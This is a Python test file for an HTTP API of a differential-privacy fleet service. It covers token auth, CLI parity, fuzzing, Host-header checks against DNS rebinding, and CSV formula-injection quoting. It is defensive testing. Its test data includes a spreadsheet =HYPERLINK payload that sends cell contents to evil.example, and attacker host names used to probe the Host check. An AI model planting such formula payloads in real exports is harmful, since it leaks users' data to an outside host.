"""The operators' HTTP API (service/http/api.py) on a real `serve --http` subprocess:
every endpoint answers what the CLI prints for the same state (list, status, estimate as JSON
and CSV with post, top, subset, threshold, phase; a two-phase protocol's answer), on SQLite and
on PostgreSQL; bearer tokens (401 without, 403 for a read token on a write, the write token's
advance and close visible in the CLI); a port in use exits 2; and schemathesis fuzzes every
operation of the app's own /openapi.json (no server error, answers match their schemas)."""
import json
import socket
import subprocess
import sys
import urllib.error
import urllib.request

import numpy as np
import pytest

from ldpfleet import cli
from ldpfleet.broker.embedded import free_port
from ldpfleet.service import BrokerSettings, Store, create_campaign
from ldpfleet.service.campaigns.manage import Issuance
from ldpfleet.service.http.api import ApiTokens, create_app, start_http
from ldpfleet.service.campaigns.protocols import ProtocolOptions, create_protocol_campaign
from ldpfleet.core.signing import write_signing_key
from support.brokers import PrivateMosquitto
from support.service import ServeProcess, fold_batch, report_messages

READ, WRITE = "read-token-0123456789", "write-token-0123456789"
SEED = 1515


def fold(state, worker, messages):
    return fold_batch(state, messages, worker)


def populate(state, broker_url, tmp_path, advance=False):
    """An OLH campaign `cpu` with 1500 reports and an LDPMiner campaign `lm` with 800 phase-1
    reports (`advance`: then phase 2 with its reports too)."""
    rng = np.random.default_rng(SEED)
    key = str(tmp_path / "fleet.key")
    write_signing_key(key)
    broker = BrokerSettings.from_url(broker_url)
    with Store(state) as store:
        olh = create_campaign(store, broker, key, "cpu", "olh", 2.0, "0-63", params={"g": 5},
                              issue=Issuance(salt=77))
        miner = create_protocol_campaign(store, broker, key, "lm", "ldpminer-rappor", 6.0, "64",
                                         ProtocolOptions(set_size=4, top=2), Issuance(salt=78))
    fold(state, "w1", report_messages("cpu", olh.mechanism(1).perturb_batch(
        rng.zipf(1.4, 1500) % 64, rng)))
    sets = [sorted({3, 9} | set((rng.zipf(1.5, 2) % 64).tolist())) for _ in range(800)]
    fold(state, "w1", report_messages("lm", miner.mechanism(1).perturb_batch(sets, rng)))
    if advance:
        run_cli("campaign", "advance", "lm", "--state", state, "--broker", broker_url)
        with Store(state) as store:
            phase2 = store.require_campaign("lm").mechanism(2)
        fold(state, "w2", report_messages("lm", phase2.perturb_batch(sets, rng)))


def run_cli(*args, fmt="--json"):
    """`ldpfleet ARGS --json` (or --csv) in process: its stdout."""
    import contextlib
    import io
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        status = cli.main([str(a) for a in args] + [fmt])
    assert status == 0
    return out.getvalue()


def request(port, path, token=READ, method="GET"):
    """(status, headers, body text) of one request."""
    req = urllib.request.Request("http://127.0.0.1:%d%s" % (port, path), method=method)
    if token:
        req.add_header("Authorization", "Bearer " + token)
    try:
        with urllib.request.urlopen(req, timeout=30) as resp:
            return resp.status, resp.headers, resp.read().decode()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers, exc.read().decode()


def settled(status: dict) -> dict:
    """A campaign status without `broker_drops`: serve's broker-drop watcher writes a fresh,
    time-stamped observation whenever $SYS reports, so two reads moments apart may differ there
    (seen: None, then the first observation); every other field must be equal."""
    drops = status.pop("broker_drops", None)
    assert drops is None or {"broker_dropped", "seen_by_serve", "time"} <= set(drops)
    return status


def get_json(port, path, token=READ, method="GET", expect=200):
    status, _, body = request(port, path, token, method)
    assert status == expect, (path, status, body)
    return json.loads(body)


def serve(broker_url, state, tmp_path, write=True, share_metrics=False):
    """`serve --http` on a free port with the read (and write) token files (`share_metrics`:
    --metrics-port on the same port); (process, port)."""
    port = free_port()
    (tmp_path / "read.token").write_text(READ + "\n")
    (tmp_path / "write.token").write_text(WRITE + "\n")
    args = ["--http", "127.0.0.1:%d" % port, "--http-token-file", tmp_path / "read.token",
            "--no-broker-check", "--http-allowed-hosts", "ldp.test"]
    if share_metrics:
        args += ["--metrics-port", port]
    if write:
        args += ["--http-write-token-file", tmp_path / "write.token"]
    proc = ServeProcess(broker_url, state, log_path=str(tmp_path / "serve.log"),
                        extra_args=[str(a) for a in args])
    return proc.start(), port


@pytest.fixture(scope="module")
def served(tmp_path_factory):
    """One broker, one SQLite state with `cpu` and `lm` (phase 1), one serve --http."""
    tmp_path = tmp_path_factory.mktemp("http")
    with PrivateMosquitto() as broker:
        state = "sqlite:///" + str(tmp_path / "state.db")
        populate(state, broker.url, tmp_path)
        proc, port = serve(broker.url, state, tmp_path, share_metrics=True)
        try:
            yield {"state": state, "port": port, "broker": broker, "tmp": tmp_path}
        finally:
            assert proc.stop() == 0, proc.log()


ESTIMATES = [[], ["--top", "5"], ["--post", "norm-sub"], ["--post", "base-cut", "--top", "3"],
             ["--subset", "1,2,3"], ["--threshold", "auto"], ["--threshold", "0.02"],
             ["--items", "0,5,63"], ["--confidence", "0.9"], ["--fdr", "0.2", "--top", "8"],
             ["--post", "none", "--threshold", "auto", "--fdr", "0.01"]]


def query(options):
    """CLI options -> the API's query string."""
    pairs = [(options[i].lstrip("-"), options[i + 1]) for i in range(0, len(options), 2)]
    return "?" + "&".join("%s=%s" % p for p in pairs) if pairs else ""


def test_endpoints_answer_what_the_cli_prints(state_url, mosquitto, tmp_path):
    populate(state_url, mosquitto.url, tmp_path, advance=True)
    proc, port = serve(mosquitto.url, state_url, tmp_path)
    try:
        state = ["--state", state_url]
        assert get_json(port, "/campaigns") == json.loads(run_cli("campaign", "list", *state))
        for name in ("cpu", "lm"):
            assert settled(get_json(port, "/campaigns/" + name)) == settled(json.loads(
                run_cli("campaign", "status", name, *state)))
        assert settled(get_json(port, "/campaigns/cpu?confidence=0.5")) == settled(json.loads(
            run_cli("campaign", "status", "cpu", "--confidence", "0.5", *state)))
        for options in ESTIMATES:
            path = "/campaigns/cpu/estimate" + query(options)
            assert get_json(port, path) == json.loads(run_cli("estimate", "cpu", *options, *state)), path
        # the protocol's answer in phase 2, and one phase's raw estimates
        for options in ([], ["--top", "1"], ["--phase", "1"], ["--phase", "2", "--top", "3"]):
            path = "/campaigns/lm/estimate" + query(options)
            assert get_json(port, path) == json.loads(run_cli("estimate", "lm", *options, *state)), path
        for name, options in (("cpu", ["--post", "norm-sub", "--top", "4"]), ("cpu", ["--subset", "5,6"]),
                              ("lm", [])):
            sep = "&" if options else "?"
            status, headers, body = request(port, "/campaigns/%s/estimate%s%sformat=csv"
                                            % (name, query(options), sep))
            assert status == 200 and headers["Content-Type"].startswith("text/csv")
            assert body == run_cli("estimate", name, *options, *state, fmt="--csv")
    finally:
        assert proc.stop() == 0, proc.log()


def test_tokens_probes_and_writes(served, capsys):
    port, state = served["port"], served["state"]
    assert get_json(port, "/healthz", token=None) == {"status": "ok"}
    assert get_json(port, "/readyz", token=None) == {"ready": True, "state": True, "ingest": True}
    for token, says in ((None, "a bearer token is needed"),
                        ("wrong-token-0123456789", "this bearer token is not accepted")):
        status, headers, body = request(port, "/campaigns", token=token)
        assert status == 401 and headers["WWW-Authenticate"] == "Bearer", body
        assert json.loads(body)["detail"].startswith(says), body
        assert request(port, "/openapi.json", token=token)[0] == 401
    assert get_json(port, "/campaigns", token=WRITE)  # the write token reads too
    status, headers, metrics = request(port, "/metrics")
    assert status == 200 and "ldpfleet_" in metrics and headers["Content-Type"].startswith("text/plain")
    assert "/campaigns/{name}/estimate" in get_json(port, "/openapi.json")["paths"]
    # errors name what is wrong
    assert get_json(port, "/campaigns/nope", expect=404) == {
        "detail": "no campaign named 'nope'", "field": "name", "campaign": "nope"}
    assert get_json(port, "/campaigns/nope/estimate", expect=404)["campaign"] == "nope"
    bad = get_json(port, "/campaigns/cpu/estimate?top=0", expect=422)
    assert bad["detail"][0]["loc"] == ["query", "top"]
    assert get_json(port, "/campaigns/cpu/estimate?threshold=lots", expect=400)["field"] == "threshold"
    assert get_json(port, "/campaigns/cpu/estimate?phase=2", expect=400)["field"] == "phase"
    assert get_json(port, "/campaigns/cpu/estimate?items=-1", expect=400)["detail"]
    # the domain as status names it (64 items), not the mechanism's 65 with the reserved "other"
    outside = get_json(port, "/campaigns/cpu/estimate?items=3,5000", expect=400)
    assert outside["field"] == "items" and "65" not in outside["detail"], outside
    assert "5000 is not an item of campaign cpu's domain of 64 items (the integers 0-63)" \
        in outside["detail"]
    assert get_json(port, "/campaigns/cpu", expect=200)["domain"]["size"] == 64
    # writes: 401 without a token, 403 with the read token, done with the write token
    for path in ("/campaigns/lm/advance", "/campaigns/cpu/close"):
        assert request(port, path, token=None, method="POST")[0] == 401
        assert get_json(port, path, method="POST", expect=403)["detail"] == "this token may only read"
    advanced = get_json(port, "/campaigns/lm/advance", token=WRITE, method="POST")
    assert advanced["phase1_reports"] == 800 and 3 in advanced["candidates"]
    assert json.loads(run_cli("campaign", "status", "lm", "--state", state))["phase"] == 2
    assert get_json(port, "/campaigns/lm/advance", token=WRITE, method="POST",
                    expect=400)["field"] == "phase"
    closed = get_json(port, "/campaigns/cpu/close", token=WRITE, method="POST")
    assert closed["state"] == "closed"
    assert json.loads(run_cli("campaign", "status", "cpu", "--state", state)) == closed


def test_the_readme_curl_example_gets_csv(served, tmp_path):
    """The README's curl line for CSV, pasted into a shell (with this server's port and token
    file): CSV of the top 10. Unquoted, the shell ran `curl ...?top=10` in the background and
    dropped `&format=csv` (JSON came back)."""
    import re
    from pathlib import Path
    readme = (Path(__file__).resolve().parents[2] / "README.md").read_text()
    [command] = [" ".join(c.split()) for c in re.findall(r"`(curl [^`]+)`", readme)
                 if "format=csv" in c]
    token = tmp_path / "http-read.token"
    token.write_text(READ + "\n")
    command = (command.replace("127.0.0.1:8080", "127.0.0.1:%d" % served["port"])
               .replace("cpu-load", "cpu").replace("cat http-read.token", "cat %s" % token))
    out = subprocess.run(["bash", "-c", command + "; wait"], capture_output=True, text=True,
                         timeout=60)
    lines = out.stdout.splitlines()
    assert lines and lines[0].startswith("rank,item,key,estimate"), (command, out.stdout[:300])
    assert len(lines) == 1 + 10


def test_read_only_api_dashboard_readiness_and_a_port_in_use(served, tmp_path):
    port = free_port()
    dashboard = tmp_path / "dashboard"
    dashboard.mkdir()
    (dashboard / "index.html").write_text("<html>fleet</html>")
    (dashboard / "app.js").write_text("// app")
    app = create_app(served["state"], tokens=ApiTokens(read=READ), ready=lambda: False,
                     dashboard=str(dashboard))
    server = start_http(app, "127.0.0.1", port)
    try:
        assert get_json(port, "/campaigns/cpu/close", token=WRITE, method="POST",
                        expect=403)["detail"].startswith("read-only API")
        assert get_json(port, "/readyz", token=None, expect=503) == {
            "ready": False, "state": True, "ingest": False,
            "detail": "ingest: not subscribed to the broker"}
        assert request(port, "/metrics")[0] == 404  # no registry given
        # the dashboard's page and files hold no data: no token
        assert request(port, "/", token=None)[2] == "<html>fleet</html>"
        assert request(port, "/static/app.js", token=None)[2] == "// app"
        # another serve asking for the same port: one line naming --http, exit 2
        state = "sqlite:///" + str(tmp_path / "other.db")
        proc = subprocess.run([sys.executable, "-m", "ldpfleet.cli", "serve", "--broker",
                               served["broker"].url, "--state", state, "--no-broker-check",
                               "--http", "127.0.0.1:%d" % port], capture_output=True, text=True,
                              timeout=60)
        assert proc.returncode == 2, proc.stderr
        assert proc.stderr.strip().splitlines()[-1].startswith("ldpfleet: error: http: cannot serve")
        # on an address other hosts reach, no read token is no start
        proc = subprocess.run([sys.executable, "-m", "ldpfleet.cli", "serve", "--broker",
                               served["broker"].url, "--state", state, "--no-broker-check",
                               "--http", "0.0.0.0:%d" % free_port()], capture_output=True,
                              text=True, timeout=60)
        assert proc.returncode == 2, proc.stderr
        assert "http_token_file: --http on 0.0.0.0 (not loopback) needs --http-token-file" in \
            proc.stderr.strip().splitlines()[-1]
    finally:
        server.should_exit = True


def test_the_openapi_contract_holds_under_fuzzing(served):
    import schemathesis
    from schemathesis import GenerationMode
    from hypothesis import HealthCheck, Phase, given, settings
    from hypothesis import strategies as st
    from schemathesis.checks import not_a_server_error
    from schemathesis.specs.openapi.checks import response_schema_conformance
    base = "http://127.0.0.1:%d" % served["port"]
    headers = {"Authorization": "Bearer " + READ}
    schema = schemathesis.openapi.from_url(base + "/openapi.json", headers=headers)
    calls = {}
    for result in schema.get_all_operations():
        operation = result.ok()
        strategies = [operation.as_strategy(), operation.as_strategy(GenerationMode.NEGATIVE)]
        if "{name}" in operation.path:  # the stored campaigns too, not only unknown names
            strategies += [operation.as_strategy(path_parameters={"name": name})
                           for name in ("cpu", "lm")]

        @given(case=st.one_of(strategies))
        @settings(max_examples=40, deadline=None, phases=[Phase.explicit, Phase.generate],
                  suppress_health_check=list(HealthCheck), database=None)
        def check(case):
            response = case.call_and_validate(base_url=base, headers=headers,
                                              checks=[not_a_server_error, response_schema_conformance])
            key = (operation.label, response.status_code)
            calls[key] = calls.get(key, 0) + 1

        check()
    assert {label for label, _ in calls} == {
        "GET /healthz", "GET /readyz", "GET /campaigns", "GET /campaigns/{name}",
        "GET /campaigns/{name}/estimate", "GET /campaigns/{name}/trend",
        "GET /campaigns/{name}/series",
        "POST /campaigns/{name}/advance", "POST /campaigns/{name}/close"}, calls
    for label in ("GET /campaigns/{name}", "GET /campaigns/{name}/estimate",
                  "GET /campaigns/{name}/trend"):
        assert calls.get((label, 200)) and calls.get((label, 404)), calls  # answers and misses


def with_host(port, host, path="/campaigns", token=None, version="HTTP/1.1"):
    """(status, JSON body) of a GET with this Host header (None: no Host, over HTTP/1.0)."""
    with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
        head = ["GET %s %s" % (path, version if host is not None else "HTTP/1.0")]
        head += ["Host: %s" % host] if host is not None else []
        head += ["Authorization: Bearer %s" % token] if token else []
        sock.sendall(("\r\n".join(head + ["Connection: close", "", ""])).encode("latin-1"))
        raw = b""
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                break
            raw += chunk
    status = int(raw.split(b" ", 2)[1])
    return status, raw.split(b"\r\n\r\n", 1)[1]


def test_the_host_header_must_name_this_api(tmp_path, served):
    """DNS rebinding: a page the operator visits rebinds its own name to 127.0.0.1 and reads a
    token-less API; its requests carry the page's name in Host, which is refused (400). IP
    addresses, localhost and the configured names pass."""
    state = "sqlite:///" + str(tmp_path / "state.db")
    key = str(tmp_path / "fleet.key")
    write_signing_key(key)
    with Store(state) as store:
        create_campaign(store, None, key, "cpu", "grr", 1.0, "0-7")
    port = free_port()
    server = start_http(create_app(state, allowed_hosts=["ldp.example"]), "127.0.0.1", port)
    try:
        for host in ("127.0.0.1:%d" % port, "localhost:%d" % port, "LOCALHOST.", "[::1]:%d" % port,
                     "10.1.2.3", "ldp.example", "LDP.example.:443"):
            status, body = with_host(port, host)
            assert status == 200 and json.loads(body)[0]["campaign"] == "cpu", (host, body)
        for host in ("attacker.example:%d" % port, "127.0.0.1.attacker.example",
                     "localhost.attacker.example", "ldp.example.attacker", "ldp.example:x",
                     "[::1", "[evil]:80", None):
            status, body = with_host(port, host)
            assert status == 400, (host, status, body)
            if host is not None:
                assert json.loads(body)["field"] == "host", body
        assert with_host(port, "attacker.example", "/healthz")[0] == 400
    finally:
        server.should_exit = True
    # serve: the --http host and --http-allowed-hosts, a token or not
    port = served["port"]
    assert with_host(port, "ldp.test:%d" % port, token=READ)[0] == 200
    assert with_host(port, "127.0.0.1:%d" % port, token=READ)[0] == 200
    assert with_host(port, "rebound.example:%d" % port, token=READ)[0] == 400


def test_writes_never_log_in_as_serve(tmp_path):
    """A broker binding client ids to logins would hand serve's session to the write endpoint's
    connection: with serve's own login they refuse, naming --http-admin-username."""
    state = "sqlite:///" + str(tmp_path / "state.db")
    key = str(tmp_path / "fleet.key")
    write_signing_key(key)
    with Store(state) as store:
        create_campaign(store, None, key, "cpu", "grr", 1.0, "0-7")
        store.set_meta("serve.username", "agg")
    broker = BrokerSettings.from_url("mqtt://127.0.0.1:1", username="agg", password="pw")
    port = free_port()
    server = start_http(create_app(state, tokens=ApiTokens(write=WRITE), broker=broker),
                        "127.0.0.1", port)
    try:
        refused = get_json(port, "/campaigns/cpu/close", token=WRITE, method="POST", expect=400)
        assert refused["field"] == "http_admin_username" and "agg-admin" in refused["detail"]
        assert get_json(port, "/campaigns/cpu", token=None)["state"] == "open"  # reads are open
    finally:
        server.should_exit = True


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "plain", "a,b", "'quoted"]


def test_csv_exports_quote_formula_cells(tmp_path, capsys):
    """Spreadsheet formula injection: an item such as =HYPERLINK(...) is written '=HYPERLINK(...)
    by `estimate --csv` and the API's format=csv (OWASP: = + - @ tab CR); other items and
    every number (negative estimates included) are written as they are."""
    import csv
    import io
    from ldpfleet.core.csvcells import cell, uncell
    domain = tmp_path / "items.txt"
    domain.write_text("\n".join(FORMULAS) + "\n")
    state = "sqlite:///" + str(tmp_path / "state.db")
    key = str(tmp_path / "fleet.key")
    write_signing_key(key)
    with Store(state) as store:
        camp = create_campaign(store, None, key, "apps", "grr", 1.0, str(domain))
    rng = np.random.default_rng(3)
    from ldpfleet.core import protocol
    truth = [protocol.item_key(FORMULAS[i]) for i in rng.integers(0, len(FORMULAS), 60)]
    fold(state, "w", report_messages("apps", camp.mechanism(1).perturb_batch(truth, rng)))
    port = free_port()
    server = start_http(create_app(state), "127.0.0.1", port)
    try:
        via_api = request(port, "/campaigns/apps/estimate?format=csv", token=None)[2]
    finally:
        server.should_exit = True
    via_cli = run_cli("estimate", "apps", "--state", state, fmt="--csv")
    assert via_api == via_cli
    rows = list(csv.DictReader(io.StringIO(via_cli)))
    assert sorted(r["item"] for r in rows) == sorted(
        [("'" + i if i[0] in "=+-@\t" else i) for i in FORMULAS] + ["other"])
    for r in rows:
        assert not r["item"].startswith(tuple("=+-@\t\r"))
        float(r["estimate"]), float(r["ci_low"])  # numbers stay numbers
    assert any(float(r["estimate"]) < 0 for r in rows)  # a negative one is written -x.y
    assert cell("\rx") == "'\rx" and cell(-2.5) == -2.5 and cell("x=1") == "x=1"
    assert all(uncell(cell(v)) == v for v in FORMULAS + ["\rx"] if not v.startswith("'"))
